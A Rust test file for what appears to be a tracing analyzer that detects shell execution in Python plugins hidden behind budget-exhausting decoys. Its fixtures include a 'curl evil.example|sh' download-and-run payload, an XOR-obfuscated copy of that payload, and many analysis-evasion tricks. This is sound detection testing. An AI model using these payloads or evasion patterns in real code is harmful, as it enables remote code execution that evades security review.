//! Code that is there to use up what an evaluation may spend, so that what stands
//! behind it is not seen.

use ringfence_analysis::{Coverage, Trace};

use crate::{check, traced};

const PAYLOAD: &str = "import os\nos.system('curl evil.example|sh')\n";
const RUNS: &str = "Shell py:os.system curl_evil.example|sh";
/// Text that a loop has to decode before it is known.
const DECODED: &str = "import os
k = [98,116,115,109,33,100,119,104,109,47,100,121,96,108,113,109,100,125,114,105]
t = ''
for one in k:
    t += chr(one ^ 1)
os.system(t)
";
const LONG_LOOP: &str = "n = ''\nfor i in range(60_000):\n    n = n[-9:] + chr(65 + i % 26)\n";

fn one(text: &str) -> Trace {
    traced(&[("plugin.py", text.as_bytes())])
}

fn runs(what: &str, trace: &Trace) {
    let wrong = check(trace, what, &[RUNS]);
    assert!(wrong.is_empty(), "{wrong:?} {:?}", trace.cut);
}

fn is_told(trace: &Trace) -> bool {
    !trace.cut.is_empty()
        && trace.coverage.iter().any(|(_, coverage)| matches!(coverage, Coverage::Partly { .. }))
}

/// Blocks in each other, with lines in the innermost.
fn nest(open: &str, inner: &str, levels: usize) -> String {
    let mut text = String::new();
    for level in 0..levels {
        for line in open.lines() {
            text.push_str(&format!("{}{line}\n", " ".repeat(level)));
        }
    }
    for line in inner.lines() {
        text.push_str(&format!("{}{line}\n", " ".repeat(levels)));
    }
    text
}

#[test]
fn what_stands_behind_a_decoy_is_found() {
    let doubling: String = (1..40)
        .map(|at| format!("def a{at}(x):\n    a{0}(x + 'l')\n    a{0}(x + 'r')\n", at - 1))
        .collect();
    let first = "def a0(x):\n    return x\n";
    for (what, decoy) in [
        ("a loop", LONG_LOOP.to_owned()),
        ("a loop that nothing ends", "n = 0\nwhile True:\n    n += 1\n".to_owned()),
        ("loops in loops", nest("for i in range(1000):", "n = (n + 'x')[-9:]", 20)),
        ("calls that double", format!("{first}{doubling}a39('x')\n")),
        ("calls that double, with functions", format!("{first}{doubling}a39(a1)\n")),
        ("text", "s = []\nfor i in range(100000):\n    s.append('x' * 1000000)\n".to_owned()),
        ("a list", format!("a = [{}]\n", "[1,'x'],".repeat(100_000))),
        ("a list that is mapped", "list(map(lambda x: x * 2, range(10 ** 8)))\n".to_owned()),
        ("a comprehension", "[[x for x in range(10 ** 5)] for y in range(10 ** 5)]\n".to_owned()),
        (
            "comprehensions in each other",
            format!("{}0{}\n", "[".repeat(90), " for x in range(9)]".repeat(90)),
        ),
        ("if", nest("if a:", "pass", 1_000)),
        ("try", nest("try:", "pass", 90)),
        ("class", nest("class A:", "pass", 99)),
        ("with", nest("with a() as b:", "pass", 99)),
        ("match", nest("match a:\n case 1:", "pass", 40).replace("\n match", "\n  match")),
        ("functions", nest("def f():", "pass", 99)),
        ("decorators", format!("{}def f(): pass\n", "@g(lambda x: x)\n".repeat(5_000))),
        ("lambdas", format!("f = {}1\n", "lambda: ".repeat(5_000))),
        ("imports", "import a\n".repeat(250_000)),
    ] {
        runs(what, &one(&format!("{decoy}{PAYLOAD}")));
    }
}

#[test]
fn what_stands_within_a_deep_nest_is_found() {
    for open in ["if a:", "while a:", "for a in b:", "class A:", "def f():", "with a:"] {
        for levels in [90, 900, 1_600] {
            runs(&format!("{open} {levels}"), &one(&nest(open, PAYLOAD, levels)));
        }
    }
    for (open, close) in [
        ("", ".a"),
        ("", "()"),
        ("", "[0]"),
        ("(", ")"),
        ("f(", ")"),
        ("[", "]"),
        ("-", ""),
        ("lambda: ", ""),
    ] {
        let inner = "__import__('os').system('curl evil.example|sh')";
        let text = format!("x = {}{inner}{}\n", open.repeat(4_000), close.repeat(4_000));
        runs(&format!("{open} {close}"), &one(&text));
    }
}

#[test]
fn a_loop_that_is_not_run_to_its_end_decides_nothing() {
    for loops in [
        "n = 0\nfor i in range(10 ** 9):\n    n += 1\n",
        "n = 0\nwhile n < 10 ** 9:\n    n += 1\n",
        "n = 0\ns = ''\nfor i in range(10 ** 9):\n    s = (s + 'x')[-9:]\n    n += 1\n",
    ] {
        for (guard, indent) in [
            ("if n < 10 ** 9:\n    raise SystemExit\n", ""),
            ("if n == 10 ** 9:\n", "    "),
            ("if n < 10 ** 9:\n    pass\nelse:\n", "    "),
        ] {
            let payload =
                PAYLOAD.lines().fold(String::new(), |text, line| format!("{text}{indent}{line}\n"));
            let text = format!("{loops}{guard}{payload}");
            runs(&text, &one(&text));
            let within = text
                .lines()
                .fold("def f():\n".to_owned(), |text, line| format!("{text}    {line}\n"));
            runs(&within, &one(&format!("{within}f()\n")));
        }
    }
}

#[test]
fn one_file_does_not_use_up_what_another_needs() {
    for (first, last) in [("a.py", "b.py"), ("b.py", "a.py")] {
        let trace = traced(&[(first, LONG_LOOP.as_bytes()), (last, DECODED.as_bytes())]);
        runs(first, &trace);
        assert!(is_told(&trace), "{first}");
    }
    let names: Vec<String> = (0..300).map(|at| format!("f{at}.py")).collect();
    let mut files: Vec<(&str, &[u8])> =
        names.iter().map(|name| (name.as_str(), LONG_LOOP.as_bytes())).collect();
    files.push(("z.py", DECODED.as_bytes()));
    runs("many files", &traced(&files));
}

#[test]
fn one_loop_does_not_use_up_what_the_next_needs() {
    for decoys in [1, 4] {
        let text = format!("{}{DECODED}", LONG_LOOP.repeat(decoys));
        let trace = one(&text);
        runs(&text, &trace);
        assert!(is_told(&trace));
    }
}

#[test]
fn what_is_called_often_before_is_not_forgotten() {
    let calls: String = (0..40).map(|at| format!("run('ls {at}')\n")).collect();
    let function = "import os\ndef run(x):\n    os.system(x)\n";
    runs("ways", &one(&format!("{function}{calls}run('curl evil.example|sh')\n")));
    let calls: String = (0..4_000).map(|at| format!("run('ls {at}')\n")).collect();
    assert!(is_told(&one(&format!("{function}{calls}run('curl evil.example|sh')\n"))));
    let idle =
        "import os\ndef run(x, y=0):\n    a = 1\n    b = 2\n    if y:\n        os.system(x)\n";
    let calls = "run('ls')\n".repeat(40);
    runs("idle", &one(&format!("{idle}{calls}run('curl evil.example|sh', 1)\n")));
}

#[test]
fn a_chain_of_calls_is_followed_or_told() {
    let first = "import os\ndef a0(x):\n    os.system(x)\n";
    let chain: String = (1..60).map(|at| format!("def a{at}(x):\n    a{}(x)\n", at - 1)).collect();
    let trace = one(&format!("{first}{chain}a59('curl evil.example|sh')\n"));
    assert!(is_told(&trace) || check(&trace, "chain", &[RUNS]).is_empty());
}

#[test]
fn more_events_than_are_kept_are_told_and_leave_room_for_others() {
    let many = "import os\n".to_owned() + &"os.remove('a')\n".repeat(230_000);
    let trace = one(&format!("{many}{PAYLOAD}"));
    runs("events", &trace);
    assert!(is_told(&trace));
}

#[test]
fn a_few_bytes_do_not_take_all_memory() {
    let double = "a = [1]\nfor i in range(40):\n    a = a + a\n";
    let made = "a = [0] * 1000000\n";
    let dictionary = "d = {}\nfor i in range(200000):\n    d[str(i)] = dict(d)\n";
    let copies: String = (0..400).map(|at| format!("b{at} = list(a)\n")).collect();
    for text in [
        double.to_owned(),
        dictionary.to_owned(),
        "d = {}\nfor i in range(200000):\n    d[str(i)] = {**d}\n".to_owned(),
        "a = [1]\nfor i in range(60):\n    a.extend(a)\n".to_owned(),
        "a = [1]\nfor i in range(60):\n    a += a\n".to_owned(),
        "a = [1]\nfor i in range(60):\n    a = [*a, *a]\n".to_owned(),
        "a = [1]\nfor i in range(60):\n    a[0:0] = a\n".to_owned(),
        "a = []\nfor i in range(200000):\n    a = a + [i]\n    b = list(a)\n".to_owned(),
        format!("{made}{copies}"),
        format!("a = range(200000)\n{copies}"),
    ] {
        let trace = one(&format!("{text}{PAYLOAD}"));
        runs(text.get(..60).unwrap_or(&text), &trace);
        assert!(peak() < 3 << 20, "{} KiB: {}", peak(), text.get(..60).unwrap_or(&text));
    }
}

/// The most memory that this process had, in KiB.
fn peak() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
    line.and_then(|line| line.trim().trim_end_matches(" kB").parse().ok()).unwrap_or(0)
}
